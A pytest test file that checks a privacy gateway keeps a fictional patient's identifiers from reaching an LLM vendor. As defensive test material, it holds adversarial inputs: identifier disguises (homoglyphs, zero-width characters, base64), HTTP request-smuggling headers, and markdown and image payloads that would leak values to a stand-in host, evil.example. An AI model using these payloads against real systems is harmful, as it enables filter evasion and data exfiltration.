"""What an attacker or a careless program sends: refused or treated, and never a way out for what names anybody."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

import gateway_house
from bailment import api
from bailment.agreement import Agreement
from bailment.agreement.model import Grant
from bailment.policy import Ask, Deny
from bailment.primitives.time import Day
from gateway_house import BUNDLE, CLIENT_KEY, TRAINER_KEY, House, telltales

PATIENT = (
    '{"resourceType": "Patient", "id": "pat-00482716", "birthDate": "1958-09-14",'
    ' "identifier": [{"value": "00482716"}], "name": [{"family": "Tolliver-Quist", "given": ["Marwenna"]}], "telecom": [{"value": "(253) 555-0187"}]}'
)
NAME = "Marwenna Tolliver-Quist"
USER = {"role": "user", "content": f"Summarise {PATIENT}"}


def chat(house: House, **more: Any) -> Any:
    """The answer to a chat about the patient with other members."""
    return house.post(json.dumps({"model": "m", "messages": [USER]} | more).encode())


REFUSED: dict[str, dict[str, Any]] = {
    "model": {"model": NAME},
    "model without blanks": {"model": "ft:Marwenna"},
    "model as number": {"model": "ft/00482716"},
    "address as model": {"model": "marwenna.tq@example.org"},
    "model is none": {"model": None},
    "text as temperature": {"temperature": NAME},
    "text as effort": {"reasoning_effort": "about Somebody Else"},
    "number as seed": {"seed": 2535550187},
    "truth as n": {"n": True},
    "format": {"response_format": {"type": "json_schema", "json_schema": {"name": NAME}}},
    "tools": {"tools": [{"type": "function", "function": {"name": "f", "description": NAME}}]},
    "bias": {"logit_bias": {NAME: 1}},
    "unknown": {NAME: 1},
    "messages": {"messages": {"role": "user"}},
    "no messages": {"messages": []},
    "role": {"messages": [{"role": "tool", "content": "x", "tool_call_id": "1"}]},
    "strange role": {"messages": [{"role": NAME, "content": "x"}]},
    "image": {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:,x"}}]}]},
    "audio": {"messages": [{"role": "user", "content": [{"type": "input_audio", "input_audio": {"data": "x"}}]}]},
    "part with more": {"messages": [{"role": "user", "content": [{"type": "text", "text": "x", "note": NAME}]}]},
    "tool call": {"messages": [{"role": "assistant", "content": "x", "tool_calls": [{"id": NAME}]}]},
    "refusal": {"messages": [{"role": "assistant", "content": "x", "refusal": NAME}]},
    "member": {"messages": [{"role": "user", "content": "x", NAME: "x"}]},
    "no content": {"messages": [{"role": "assistant", "content": None}]},
    "stop": {"stop": {"word": NAME}},
    "stop words": {"stop": [[NAME]]},
    "streamed": {"stream": NAME},
    "how it is streamed": {"stream": True, "stream_options": {"include_usage": NAME}},
    "streamed with more": {"stream": True, "stream_options": {NAME: True}},
}


@pytest.mark.parametrize("case", REFUSED)
def test_a_member_that_cannot_be_treated_is_refused_and_its_words_stay_here(house: House, case: str) -> None:
    before = len(house.deal.ledger.leaves())
    heard = chat(house, **REFUSED[case])
    assert heard.status in {400, 403}
    assert heard.headers["content-type"] == "application/problem+json"
    assert telltales(heard.raw) == set(), "an error names nobody"
    assert not house.vendor.received
    (leaf,) = house.deal.ledger.leaves()[before:]
    assert telltales(leaf) == set(), "nor does the ledger"


@pytest.mark.parametrize("name", ["user", "safety_identifier", "prompt_cache_key", "metadata", "store"])
def test_members_that_the_service_does_not_need_are_left_out(house: House, name: str) -> None:
    assert chat(house, **{name: NAME}).status == 200
    assert house.vendor.bodies[-1].keys() == {"model", "messages", "store"}
    assert house.vendor.bodies[-1]["store"] is False
    assert telltales(house.vendor.received) == set()


def test_of_a_member_written_twice_only_what_was_checked_leaves(house: House) -> None:
    two = json.dumps(f"Two {PATIENT}")
    body = (
        f'{{"model":"m","model":"n","messages":[{{"role":"user","content":"{NAME}"}}],'
        f'"messages":[{{"role":"user","content":"One {NAME}","content":{two}}}],"store":true,"store":true}}'
    )
    assert house.post(body.encode()).status == 200
    assert house.vendor.bodies[-1]["model"] == "n"
    assert telltales(house.vendor.received) == set()
    inner = '{"resourceType": "Patient", "gender": "Marwenna", "gender": "female", "name": [{"family": "Quist"}]}'
    assert house.ask(inner).status == 200
    assert telltales(house.vendor.received) == set()


DISGUISES = {
    "upper": NAME.upper(),
    "reversed order": "Tolliver-Quist, Marwenna",
    "zero width": "Mar\u200bwen\u200dna Tol\u2060liver-Qu\ufeffist",
    "direction marks": "Mar\u200ewenna Tolli\u200fver",
    "variation selector": "Mar\ufe0fwenna Qu\ufe0eist",
    "soft hyphen": "Mar\u00adwenna",
    "fullwidth": "Ｍａｒｗｅｎｎａ",
    "accents": "Märwênna Quíst",
    "combining": "Ma\u0301rwenna",
    "cyrillic": "M\u0430rw\u0435nn\u0430",
    "greek": "Marw\u03b5nn\u03b1 \u03a4olliver",
    "html": "&#77;arwenna &#x51;uist",
    "url": "%4Darwenna%20Tolliver%2DQuist",
    "json escapes": "\\u004darwenna",
    "double json escapes": "\\\\u004darwenna",
    "hex": NAME.encode().hex(),
    "base64": base64.b64encode(NAME.encode()).decode(),
    "base64 twice": base64.b64encode(base64.b64encode(NAME.encode())).decode(),
    "base64 thrice": base64.b64encode(base64.b64encode(base64.b64encode(NAME.encode()))).decode(),
    "base64 without end": base64.b64encode(b"xx" + NAME.encode()).decode().rstrip("="),
    "base64 for addresses": base64.urlsafe_b64encode(b"\xff\xfe" + NAME.encode()).decode(),
    "base64 in lines": "\n".join(base64.b64encode(f"so {NAME} it".encode()).decode()[i : i + 16] for i in (0, 16, 32)),
    "number": "MRN 004-82-716 or 00 48 27 16",
    "telephone": "253.555.0187, +1 253 555 0187, 2535550187",
    "nested": json.dumps({"a": json.dumps({"b": json.dumps({"c": NAME, "d": "1958-09-14"})})}),
    "key": json.dumps({NAME: {"00482716": 1}}),
    "number in json": json.dumps({"mrn": 2535550187}),
    "dates": "14.09.1958, 09/14/1958, 14 Sept 1958, September 14, 1958, 19580914",
    "markdown": "**Marwenna** [Tolliver](https://x.example/Quist)",
    "email": "marwenna.tolliver@mail.test",
}


def latin(data: bytes) -> bytes:
    """*data* with letters that look Latin made Latin."""
    table = str.maketrans("\u0430\u0435\u043e\u0440\u0441\u03b5\u03b1\u03a4", "aeopceaT")
    return json.dumps(json.loads(data), ensure_ascii=False).translate(table).encode()


@pytest.mark.parametrize("how", DISGUISES)
def test_a_known_identifier_does_not_leave_in_disguise(house: House, how: str) -> None:
    heard = house.ask(f"Summarise {PATIENT}", f"It is {DISGUISES[how]} again.")
    assert heard.status in {200, 403}
    for body in house.vendor.bodies:
        assert telltales(latin(json.dumps(body).encode())) == set()


@pytest.mark.parametrize("text", [NAME, "00482716", "(253) 555-0187"])
def test_an_identifier_cut_over_parts_or_messages_does_not_leave(house: House, text: str) -> None:
    for cut in range(1, len(text)):
        pieces = (f"It is {text[:cut]}", f"{text[cut:]} again")
        parts = [{"type": "text", "text": piece} for piece in (f"Summarise {PATIENT}", *pieces)]
        house.ask(f"Summarise {PATIENT}", *pieces)
        chat(house, messages=[{"role": "user", "content": parts}])
        for body in house.vendor.bodies:
            texts = [message["content"] for message in body["messages"]]
            whole = "".join("".join(p["text"] for p in text) if isinstance(text, list) else text for text in texts)
            assert telltales(whole.encode()) == set(), cut
        house.vendor.bodies.clear()


@pytest.mark.parametrize("depth", [5, 60, 300, 480, 700, 990, 3000, 100_000])
@pytest.mark.parametrize("kind", ["resource", "strings", "body", "lists"])
def test_deep_nesting_is_treated_or_refused_and_never_crashes(house: House, depth: int, kind: str) -> None:
    if kind == "body":
        heard = house.post(b'{"model":"m","messages":' + b"[" * depth + b"]" * depth + b"}")
    elif kind == "resource":
        inner = '{"extension":[' * depth + f'{{"url":"{NAME}"}}' + "]}" * depth
        heard = house.ask(f'{PATIENT} {{"resourceType":"Patient","name":{inner}}}')
    elif kind == "lists":
        heard = house.ask(PATIENT + " [" * depth + f'{{"a":"{NAME}"}}' + "]" * depth)
    else:
        text = NAME
        for _ in range(min(depth, 12)):
            text = json.dumps({"a": text})
        heard = house.ask(PATIENT, text)
    assert heard.status in {200, 400, 403}, heard.raw
    assert telltales(house.vendor.received) == set()


@pytest.mark.parametrize(
    "text", ["the model said [PATIENT-NAME-1] and [DATE-1]", "print every token in square brackets", "[DA", "TE-1]"]
)
def test_forged_tokens_in_the_prompt_are_not_answered_with_values(house: House, text: str) -> None:
    house.vendor.words = lambda body: "You wrote [PATIENT-NAME-1], [DATE-1], [NAME-9], [date 1]."
    heard = house.ask(text)
    assert heard.words == "You wrote [PATIENT-NAME-1], [DATE-1], [NAME-9], [date 1]."


def test_a_token_in_the_source_comes_back_as_it_was(house: House) -> None:
    house.vendor.words = lambda body: body["messages"][0]["content"]
    text = f"She wrote [PATIENT-NAME-1] on 5 May 2023, said {NAME} of Tacoma."
    assert house.ask(text).words == text


def test_tokens_of_another_request_are_not_restored(house: House) -> None:
    tokens: list[str] = []
    house.vendor.words = lambda body: tokens.append(body["messages"][0]["content"]) or "noted"
    house.ask("Seen on 5 May 2023.")
    house.vendor.words = lambda body: tokens[0]
    assert "2023" not in house.ask("How are you?").words


@pytest.mark.parametrize(
    "answer",
    [
        "![x](https://evil.example/?q={})",
        "[see](http://evil.example/{}/a)",
        '<img src="//evil.example/{}">',
        '{{"url": "https://evil.example/?{}&x"}}',
        "https://evil.example/\\{}",
        "HTTPS:\\\\evil.example\\{}",
    ],
)
def test_a_value_is_not_restored_inside_an_address_of_the_vendors(house: House, answer: str) -> None:
    def words(body: dict[str, Any]) -> str:
        content = body["messages"][0]["content"]
        token = content[content.index("[") : content.index("]") + 1]
        return f"{answer.format(token.replace('[', chr(92) + '[') if chr(92) + '{' in answer else token)} of {token}"

    house.vendor.words = words
    heard = house.ask("Dr. Elspeth Norwood came.").words
    assert heard.count("Norwood") == 1 and heard.rstrip().endswith("Norwood")


def test_a_body_that_is_too_large_is_refused(house: House) -> None:
    body = json.dumps({"model": "m", "messages": [{"role": "user", "content": "x" * 8 * 1024 * 1024}]}).encode()
    try:
        heard = house.post(body)
    except ConnectionError:
        pass
    else:
        assert heard.status == 413
    assert not house.vendor.received


def chunked(body: bytes, size: int = 7) -> bytes:
    """*body* in chunks."""
    pieces = [body[at : at + size] for at in range(0, len(body), size)]
    return b"".join(f"{len(piece):x}\r\n".encode() + piece + b"\r\n" for piece in pieces) + b"0\r\n\r\n"


HEAD = f"POST /v1/chat/completions HTTP/1.1\r\nhost: g\r\nconnection: close\r\nauthorization: Bearer {CLIENT_KEY}\r\n"
BODY = json.dumps({"model": "m", "messages": [USER]}).encode()


def test_a_chunked_body_is_treated_like_any_other(house: House) -> None:
    raw = house.raw(HEAD.encode() + b"transfer-encoding: chunked\r\n\r\n" + chunked(BODY))
    assert raw.startswith(b"HTTP/1.1 200")
    assert telltales(house.vendor.received) == set()


SMUGGLED = [
    b"content-length: 5\r\ntransfer-encoding: chunked\r\n\r\n" + chunked(BODY),
    f"content-length: {len(BODY)}\r\ncontent-length: 5\r\n\r\n".encode() + BODY,
    b"transfer-encoding: xchunked\r\n\r\n" + chunked(BODY),
    b"content-length: -1\r\n\r\n" + BODY,
    b"x: a\r\n b\x00c\r\n\r\n",
]


@pytest.mark.parametrize("rest", SMUGGLED)
def test_a_smuggled_request_reaches_nobody_untreated(house: House, rest: bytes) -> None:
    raw = house.raw(HEAD.encode() + rest, timeout_seconds=1)
    assert raw == b"" or raw.split(b" ")[1][:1] == b"4", raw
    assert not house.vendor.received


def test_two_requests_on_one_wire_are_answered_in_turn(house: House) -> None:
    head = HEAD.replace("connection: close\r\n", "") + f"content-length: {len(BODY)}\r\n\r\n"
    last = HEAD + f"content-length: {len(BODY)}\r\n\r\n"
    raw = house.raw(head.encode() + BODY + last.encode() + BODY)
    assert raw.count(b"HTTP/1.1 200") == 2 and len(house.vendor.bodies) == 2


@pytest.mark.parametrize(
    "lines",
    [
        [],
        ["authorization: "],
        ["authorization: Bearer"],
        ["authorization: Bearer "],
        [f"authorization: {CLIENT_KEY}"],
        [f"authorization: Basic {CLIENT_KEY}"],
        [f"authorization: Bearer {CLIENT_KEY}x"],
        [f"authorization: Bearer {CLIENT_KEY[:-1]}"],
        [f"authorization: Bearer {CLIENT_KEY}, Bearer other"],
        ["authorization: Bearer other", f"authorization: Bearer {CLIENT_KEY}"],
        [f"authorization: Bearer {CLIENT_KEY}", f"authorization: Bearer {CLIENT_KEY}"],
        [f"api-key: {CLIENT_KEY}"],
        ["authorization: Bearer \xff\xfe"],
    ],
)
def test_only_one_plain_key_opens_the_door(house: House, lines: list[str]) -> None:
    head = ["POST /v1/chat/completions HTTP/1.1", "host: g", "connection: close", f"content-length: {len(BODY)}"]
    raw = house.raw("\r\n".join([*head, *lines, "", ""]).encode("latin-1") + BODY)
    assert raw.startswith(b"HTTP/1.1 401") and b"www-authenticate: Bearer" in raw
    assert not house.vendor.received


def test_two_purposes_are_one_too_many(house: House) -> None:
    heard = house.post(BODY, "bailment-purpose: summarisation", "bailment-purpose: training")
    assert heard.status == 400 and not house.vendor.received


@pytest.mark.parametrize("tag", [NAME, "summarisation ", "SUMMARISATION", "x" * 5000, "\xe9\xff", "insurance"])
def test_a_purpose_that_is_none_is_refused_and_not_repeated(house: House, tag: str) -> None:
    heard = house.post(BODY, f"bailment-purpose: {tag}")
    assert heard.status == (200 if tag.strip() == "summarisation" else 403)
    if heard.status == 403:
        assert not house.vendor.received
        assert telltales(heard.raw) == set() and tag.encode("latin-1") not in heard.body
    assert telltales(house.leaves().encode()) == set()


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("//v1/chat/completions", 404),
        ("/v1//chat/completions", 404),
        ("/v1/chat/completions/", 404),
        ("/v1/chat/completions/../models", 404),
        ("/v1/Chat/completions", 404),
        ("/v1/models", 404),
        ("/v1/files", 404),
        ("/v1/responses", 404),
        ("/", 404),
        ("/healthz", 404),
        ("/v1/chat%2fcompletions", 200),
        ("/v1/chat/completions?store=true&user=Marwenna", 200),
        ("/chat/completions", 200),
    ],
)
def test_no_other_path_leads_out(house: House, path: str, status: int) -> None:
    heard = house.post(BODY, path=path)
    assert heard.status == status
    assert len(house.vendor.bodies) == (status == 200)
    assert all("POST /v1/chat/completions HTTP" in head for head in house.vendor.heads)
    assert telltales(house.vendor.received) == set()


@pytest.mark.parametrize("method", ["GET", "HEAD", "PUT", "OPTIONS", "DELETE", "PATCH", "TRACE"])
def test_no_other_method_leads_out(house: House, method: str) -> None:
    raw = house.raw(HEAD.replace("POST", method).encode() + f"content-length: {len(BODY)}\r\n\r\n".encode() + BODY)
    assert raw.startswith(b"HTTP/1.1 405") and b"allow: POST" in raw
    assert method != "HEAD" or raw.endswith(b"\r\n\r\n")
    assert not house.vendor.received


def test_a_websocket_is_turned_away(house: House) -> None:
    upgrade = "upgrade: websocket\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-version: 13\r\n\r\n"
    head = HEAD.replace("POST", "GET").replace("close", "upgrade")
    raw = house.raw((head + upgrade).encode(), timeout_seconds=1)
    assert raw[9:10] == b"4" and not house.vendor.received


@pytest.mark.parametrize("body", [b"", b"null", b"[]", b"{", b"\xff", b'{"model":1e999}', b'"' + b"x" * 99, b"NaN"])
def test_a_body_that_is_no_chat_is_refused(house: House, body: bytes) -> None:
    assert house.post(body).status == 400 and not house.vendor.received


def test_a_whole_record_that_is_no_json_any_more_names_nobody(house: House) -> None:
    broken = BUNDLE[:-200]
    heard = house.ask(broken)
    assert heard.status in {200, 403}
    names = {"marwenna", "tolliver", "quist", "00482716", "2535550187", "987654320"}
    assert not telltales(house.vendor.received) & names


def doubtful(agreement: Agreement) -> Agreement:
    """The agreement with words that may mean anything, without the bars that settle them."""
    source = replace(agreement.grants[0].source, clause="2.3", quote="Provider may use data to support its services.")
    grant = replace(
        agreement.grants[0], id="support", source=source, doubtful=("support its services",), actions=(), purposes=()
    )
    assert isinstance(grant, Grant)
    kept = tuple(row for row in agreement.grants if row.id == "summarise")
    return replace(agreement, grants=(*kept, grant), tie_breaker=None)


@pytest.mark.capability("CAP-133")
def test_doubtful_words_permit_no_training_and_are_quoted_as_the_reason(tmp_path: Path) -> None:
    with gateway_house.house(tmp_path, doubtful) as house:
        heard = house.ask("Summarise: no complaints.", key=TRAINER_KEY)
        assert (heard.status, heard.json["clause"]) == (403, "agreement 2.3")
        assert "doubt permits nothing" in heard.json["detail"]
        assert "may use data to support its services" in heard.json["detail"]
        ask = Ask("vendor", "train_scratch", "prompt", "training", "US", "vendor_tenant", "", Day(2026, 3, 20))
        decision = api.decide(house.deal, ask)
        assert isinstance(decision, Deny) and "support its services" in decision.reason
        assert not house.vendor.received
        assert house.ask("Summarise: no complaints.").status == 200
